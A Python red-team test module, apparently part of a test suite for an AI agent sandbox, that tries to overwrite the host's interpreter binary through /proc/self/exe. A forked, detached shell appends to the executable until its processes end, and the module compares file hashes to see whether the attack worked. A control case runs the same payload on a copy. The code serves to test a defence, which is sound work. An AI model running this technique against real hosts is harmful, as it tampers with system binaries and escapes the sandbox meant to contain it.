"""Overwrite the interpreter through /proc/self/exe, which the kernel opened where the process came from."""

import hashlib
import os
import shutil
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

from agent2.sandbox.host import interpreter
from red_team.forking import REPORT, forked, judge_next
from red_team.frame import Outcome
from red_team.scene import Scene

AIM = "code of the attacker's in every program of the host that is started from this file"
DEFENCE = "the server runs from a sealed copy in memory"

PROGRAM = """
import os, sys, time
link = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(link, True)
# a file that is being run cannot be written: something else does it, and tries again until all of them have ended
script = f"for i in $(seq 40); do echo evil 2>/dev/null >> /proc/self/fd/{link} && exit 0; sleep 0.1; done; exit 1"
writer = os.fork()
if writer == 0:
    os.setsid()
    os.execv("/bin/sh", ["sh", "-c", script])
"""
WAIT = """
_, status = os.waitpid(writer, 0)
report(f"the shell ended with {os.waitstatus_to_exitcode(status)}")
"""


def attempt(scene: Scene) -> Outcome:
    before = _digest(interpreter())
    with forked(scene) as evaluations:
        outcome = judge_next(evaluations, f"import sys\n{REPORT}\n{PROGRAM}\n{WAIT}")
    if _digest(interpreter()) != before:
        return Outcome(True, "the interpreter of this host was changed")
    return outcome


def control(scene: Scene) -> Outcome:
    """The same with an interpreter that was started from its file."""
    copy = scene.root / "interpreter"
    shutil.copy(interpreter(), copy)
    before = _digest(copy)
    try:
        environment = {**os.environ, "PYTHONHOME": sys.base_prefix, "LD_LIBRARY_PATH": f"{sys.base_prefix}/lib"}
        subprocess.run([str(copy), "-S", "-c", PROGRAM.replace("seq 40", "seq 1200")], check=True, env=environment)
        ends_at = time.monotonic() + 120
        while _digest(copy) == before and time.monotonic() < ends_at:
            time.sleep(0.05)
        return Outcome(_digest(copy) != before, "the file was changed after its process had ended")
    finally:
        with suppress(FileNotFoundError):
            copy.unlink()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()
